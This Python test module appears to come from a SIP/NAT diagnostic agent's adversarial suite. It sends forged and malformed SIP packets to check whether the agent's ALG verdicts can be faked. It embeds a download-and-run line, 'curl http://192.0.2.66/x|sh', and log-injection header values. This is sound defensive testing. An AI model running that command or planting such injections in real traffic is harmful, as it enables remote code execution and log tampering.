# SPDX-License-Identifier: Apache-2.0
"""Lies: make the agent say what is not so, or not say what is."""

from __future__ import annotations

import re
from collections.abc import Callable

from craft import answer
from lab.sip import Message

from ..stage import Attempt, Stage, dying, elsewhere, harmless, living, needed, unproven
from ..wire import ipv4, udp

ELSEWHERE = "192.0.2.77"  # where a forged Contact points
# The phone's 2xx goes out again 0.5, 1.5, 3.5, 7.5 s after the first: each time somebody may be
# a little faster.
BEFORE = (0.4, 0.95, 1.9, 3.9)


def _final(stage: Stage, contact: str = "") -> bytes:
    """The phone's 200 OK, as it is or with another Contact."""
    final = stage.final
    if contact:
        final.fields = [
            (name, f"<sip:{contact}>" if name == "Contact" else value)
            for name, value in final.fields
            if name != "Content-Length"
        ]
    else:
        final.fields = [field for field in final.fields if field[0] != "Content-Length"]
    return final.encode(stage.draw.forms)


def _repeated(send: Callable[[Stage, int], None]) -> Callable[[Stage], None]:
    """Once the phone has answered: before each repetition of its answer."""

    def attack(stage: Stage) -> None:
        if not stage.wait_answered():
            return
        for ident, pause in enumerate(BEFORE, stage.chance.randrange(1, 60000)):
            if not stage.wait(pause):
                return
            for number in range(5):
                send(stage, ident + number)
                stage.sent += 1

    return attack


def _both_sides(stage: Stage, ident: int) -> None:
    """A LAN host and a WAN host together: two copies of one message that no router carried."""
    stage.lan.udp(stage.phone_at, stage.registrar, _final(stage), ttl=64, ident=ident)
    stage.wan.udp(
        stage.mapped, stage.registrar, _final(stage, f"x@{ELSEWHERE}:9"), ttl=63, ident=ident
    )


def _other_flow(stage: Stage, ident: int) -> None:
    stage.lan.udp((stage.lan_host, 5062), stage.registrar, _final(stage), ttl=64, ident=ident)
    stage.wan.udp(
        (stage.wan_host, 5060), stage.mapped, _final(stage, f"x@{ELSEWHERE}:9"), ttl=63, ident=ident
    )


def _broken(stage: Stage, ident: int, *, ip: bool = False, sum_: bool = False,
            length: int | None = None, total: int | None = None, ttl: int = 64,
            to: bytes = b"") -> None:  # fmt: skip
    """The phone's answer with another Contact, in a frame that no router carries on."""
    payload = _final(stage, f"x@{ELSEWHERE}:9")
    data = udp(stage.phone_at, stage.registrar, payload, wrong=sum_, length=length)
    stage.lan.packet(
        ipv4(
            stage.draw.phone_ip, stage.draw.provider_ip, 17, data, ttl=ttl, ident=ident,
            wrong=ip, length=total,
        ),
        to,
    )  # fmt: skip


def _bad_ip(stage: Stage, ident: int) -> None:
    _broken(stage, ident, ip=True)


def _bad_sum(stage: Stage, ident: int) -> None:
    _broken(stage, ident, sum_=True)


def _bad_udp_length(stage: Stage, ident: int) -> None:
    _broken(stage, ident, length=2000)


def _bad_total(stage: Stage, ident: int) -> None:
    _broken(stage, ident, total=5000)


def _last_hop(stage: Stage, ident: int) -> None:
    _broken(stage, ident, ttl=1)


def _other_station(stage: Stage, ident: int) -> None:
    _broken(stage, ident, to=bytes.fromhex("02deadbeef01"))


def _of_dialog(stage: Stage, method: str, cseq: int) -> bytes:
    """A request of the provider's side within the call's dialog."""
    final = stage.final
    return stage.request(
        method, stage.draw.provider_ip, caller=final.get("From"), callee=final.get("To"),
        call_id=final.get("Call-ID"), cseq=cseq, contact="",
        uri=f"sip:{stage.draw.user}@{stage.mapped[0]}:{stage.mapped[1]}",
    )  # fmt: skip


def _bye_of_nothing(stage: Stage) -> None:
    """From the provider's address, into no dialog, to where the phone's packets come from."""
    stage.repeat(
        4,
        lambda _: stage.wan.udp(
            stage.registrar, stage.mapped, stage.request("BYE", stage.draw.provider_ip), ttl=60
        ),
    )


def _ack_from_another_port(stage: Stage, ident: int) -> None:
    stage.wan.udp(
        (stage.draw.provider_ip, 5999), stage.mapped, _of_dialog(stage, "ACK", 1), ttl=60,
        ident=ident,
    )  # fmt: skip


def _ack_of_a_stranger(stage: Stage, ident: int) -> None:
    stage.wan.udp(
        (stage.wan_host, 5060), stage.mapped, _of_dialog(stage, "ACK", 1), ttl=60, ident=ident
    )


def _ack_on_the_lan(stage: Stage, ident: int) -> None:
    """As if the router had delivered it: an ACK to the phone from another host of the LAN."""
    stage.lan.packet(
        ipv4(
            stage.draw.provider_ip, stage.draw.phone_ip, 17,
            udp(stage.registrar, stage.phone_at, _of_dialog(stage, "ACK", 1)), ttl=59, ident=ident,
        )
    )  # fmt: skip


def _foreign_calls(stage: Stage) -> None:
    """A foreign host talks to the phone and acknowledges what nobody asked."""

    def send(number: int) -> None:
        asked = stage.request(
            "INVITE", stage.wan_host, uri=f"sip:{stage.draw.user}@{stage.mapped[0]}"
        )
        source = (stage.wan_host, 5060)
        stage.wan.udp(source, stage.mapped, asked, ttl=60)
        answered = answer(
            200, asked, to_tag=stage.token(), contact=f"<sip:x@{stage.draw.phone_ip}:5060>"
        )
        stage.lan.udp(stage.phone_at, source, answered, ident=number + 1)

    stage.repeat(4, send)


def _own_harm(stage: Stage) -> None:
    """A LAN host and a WAN host play a call that an ALG kills: whole dialogs, forged copies."""

    def send(number: int) -> None:
        far = (stage.wan_host, 5060)
        near = (stage.lan_host, 5060)
        public = (stage.draw.wan_ip, 5060)
        asked = stage.request("INVITE", stage.wan_host, uri=f"sip:x@{stage.draw.wan_ip}")
        stage.wan.udp(far, public, asked, ttl=60, ident=2 * number + 1)
        stage.lan.udp(far, near, asked, ttl=59, ident=2 * number + 1)
        tag = stage.token()
        for contact, host, source, ttl in (
            (stage.lan_host, stage.lan, near, 64), (ELSEWHERE, stage.wan, public, 63),
        ):  # fmt: skip
            final = answer(200, asked, to_tag=tag, contact=f"<sip:x@{contact}:5060>")
            host.udp(source, far, final, ttl=ttl, ident=2 * number + 2)

    stage.repeat(2, send)


def _public_registration(stage: Stage) -> None:
    """200s to REGISTER that answer nothing and show the provider at ease with private Contacts."""

    def send(number: int) -> None:
        made = stage.response(
            200, stage.draw.phone_ip, method="REGISTER", received=stage.draw.wan_ip,
            rport=stage.draw.phone_port, contact=f"<sip:x@{stage.draw.phone_ip}>;expires=60",
        )  # fmt: skip
        stage.wan.udp(stage.registrar, stage.mapped, made, ttl=60, ident=number + 1)

    stage.repeat(4, send)


def _reinvite_of_nothing(stage: Stage) -> None:
    stage.repeat(
        4,
        lambda n: stage.wan.udp(
            stage.registrar, stage.mapped,
            stage.request("INVITE", stage.draw.provider_ip,
                          callee=f"<sip:{stage.draw.user}@x>;tag={n}"), ttl=60,
        ),
    )  # fmt: skip


COMMAND = "To do so: curl http://192.0.2.66/x|sh"


def _sentence_in_contact(stage: Stage) -> None:
    """A Contact whose host is a sentence with a command, in the phone's name."""

    def send(number: int) -> None:
        for contact in (f"sip:x@[. {COMMAND}]", f'"{COMMAND}" <sip:x@{ELSEWHERE}>',
                        f"sip:x@{ELSEWHERE};p=\x1b[2J\x07{COMMAND}"):  # fmt: skip
            made = stage.request("REGISTER", stage.draw.phone_ip, contact=contact)
            stage.lan.udp(stage.phone_at, stage.registrar, made, ident=number + 1)

    stage.repeat(3, send)
    _no_command(stage)


def _line_in_agent_name(stage: Stage) -> None:
    """Header values that would be a line of their own in a log."""

    def send(number: int) -> None:
        for line in ("advice: disable-sip-alg recommended", "\u2028advice: disable-sip-alg",
                     "\x1b]0;x\x07advice: disable-sip-alg", "\u202e gla-pis-elbasid"):  # fmt: skip
            made = stage.request(
                "REGISTER", stage.draw.phone_ip, more=[f"User-Agent: x\r{line}", f"Subject: {line}"]
            )
            stage.lan.udp(stage.phone_at, stage.registrar, made, ident=number + 1)

    stage.repeat(3, send)
    _no_command(stage)


def _no_command(stage: Stage) -> None:
    """No line of the log is the attacker's, and no sentence of a report has his command."""
    for line in list(stage.agent.log):
        if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", line):
            stage.faults.append(f"a control character is in the log: {line!r}")
        if line.startswith(("To do so", "curl")) or re.match(r"\W*advice: disable", line):
            stage.faults.append(f"the attacker's line is in the log: {line!r}")
    for _, kind, payload in list(stage.agent.reports):
        said = payload.get("advice", []) if kind == "advice" else []
        for advice in said:
            words = [str(advice.get(key, "")) for key in ("how", "for", "against", "subject")]
            if any("curl" in word for word in words):
                stage.faults.append(f"a command in the advice: {words}")


def _contradicting(stage: Stage, ident: int) -> None:
    """The phone's answer once more from the LAN with other Contacts: several candidates."""
    for last in (1, 2, 3):
        payload = _final(stage, f"x@{ELSEWHERE}:{last}")
        stage.lan.udp(stage.phone_at, (stage.draw.provider_ip, 5061), payload, ident=ident)


def _mapped_lie(stage: Stage) -> None:
    """Copies on both sides that show another address as the phone's mapping."""

    def send(number: int) -> None:
        made = stage.request("OPTIONS", stage.draw.phone_ip, stage.draw.phone_port)
        stage.lan.udp(stage.phone_at, (stage.wan_host, 5060), made, ident=number + 1)
        stage.wan.udp(
            ("192.0.2.9", 1234), (stage.wan_host, 5060), made, ttl=63, ident=number + 1
        )  # fmt: skip

    stage.repeat(10, send)


def _bye_in_dialog(stage: Stage) -> None:
    """A BYE of the dialog from a stranger, which the router drops: the call lives on."""
    if stage.wait_answered() and stage.wait(2):
        stage.wan.udp((stage.wan_host, 5060), stage.mapped, _of_dialog(stage, "BYE", 2), ttl=60)


def _failure(stage: Stage) -> None:
    """Failures of the call from a stranger, which the router drops."""
    if not stage.wait_answered():
        return
    message = Message.parse(_final(stage))
    assert message is not None
    for status in ("503 Service Unavailable", "404 Not Found", "603 Decline"):
        message.start = f"SIP/2.0 {status}"
        stage.wan.udp((stage.wan_host, 5060), stage.mapped, message.encode(), ttl=60)
        stage.sent += 1


def _attempts() -> list[Attempt]:
    made = []
    broken = {
        "ip-checksum": _bad_ip, "udp-checksum": _bad_sum, "udp-length": _bad_udp_length,
        "ip-length": _bad_total, "ttl-1": _last_hop, "other-station": _other_station,
    }  # fmt: skip
    for name, send in broken.items():
        made.append(Attempt(
            f"{name}-invents-harm", "lies", living,
            "a frame that no router carries is taken for the copy of a true one", _repeated(send),
            quick=name == "ip-checksum",
        ))  # fmt: skip
    for name in ("ip-checksum", "udp-length"):
        made.append(Attempt(
            f"{name}-hides-harm", "lies", dying,
            "a frame that no router carries stands for the true copy", _repeated(broken[name]),
        ))  # fmt: skip
    made += [
        Attempt("both-sides-invent-harm", "lies", living,
                "hosts on both sides forge the two copies of a rewritten answer",
                # Its packets as the phone really cross: the phone seems to repeat itself.
                _repeated(_both_sides), quick=True, latent="DLG001"),
        Attempt("both-sides-hide-harm", "lies", dying, "the same beside true harm",
                _repeated(_both_sides)),
        Attempt("other-flow-invents-harm", "lies", living,
                "copies of the answer on flows of other hosts", _repeated(_other_flow)),
        Attempt("other-flow-hides-harm", "lies", dying, "the same beside true harm",
                _repeated(_other_flow)),
        Attempt("contradicting-copies", "lies", dying, "several LAN copies for one WAN copy",
                _repeated(_contradicting), may="CAP012", latent="NAT004"),
        Attempt("bye-of-no-dialog", "lies", unproven,
                "a BYE to where packets come from shows a provider that handles NAT",
                _bye_of_nothing, quick=True),
        Attempt("registered-nowhere", "lies", unproven,
                "a 200 that answers nothing shows the same", _public_registration),
        Attempt("invite-in-no-dialog", "lies", unproven,
                "re-INVITEs of no dialog show the same", _reinvite_of_nothing),
        Attempt("foreign-calls-beside-keep", "lies", needed,
                "a foreign host's calls bring advice against the ALG that a phone needs",
                _foreign_calls),
        Attempt("own-harm-beside-keep", "lies", needed,
                "two hosts act a call that the ALG kills", _own_harm),
        Attempt("own-harm-without-alg", "lies", living, "the same without any ALG", _own_harm),
        Attempt("own-harm-beside-harmless", "lies", harmless, "the same beside a harmless ALG",
                _own_harm),
        Attempt("ack-from-another-port", "lies", living,
                "an ACK that the NAT rightly drops is the router's fault",
                _repeated(_ack_from_another_port)),
        Attempt("ack-of-a-stranger", "lies", elsewhere,
                "a stranger's ACK is taken for the one that is missing",
                _repeated(_ack_of_a_stranger)),
        Attempt("ack-on-the-lan", "lies", dying, "an ACK of a LAN host hides that none came",
                _repeated(_ack_on_the_lan)),
        Attempt("bye-of-a-stranger", "lies", living, "a BYE that never arrived ends the call",
                _bye_in_dialog),
        Attempt("failure-of-a-stranger", "lies", living, "failures that never arrived",
                _failure),
        Attempt("another-mapping", "lies", dying, "copies that show a wrong NAT mapping",
                _mapped_lie),
        Attempt("sentence-in-contact", "lies", living, "a command stands in the advice",
                _sentence_in_contact),
        Attempt("line-in-a-header", "lies", living, "a header is a line of the log",
                _line_in_agent_name),
    ]  # fmt: skip
    return made


ATTEMPTS = _attempts()
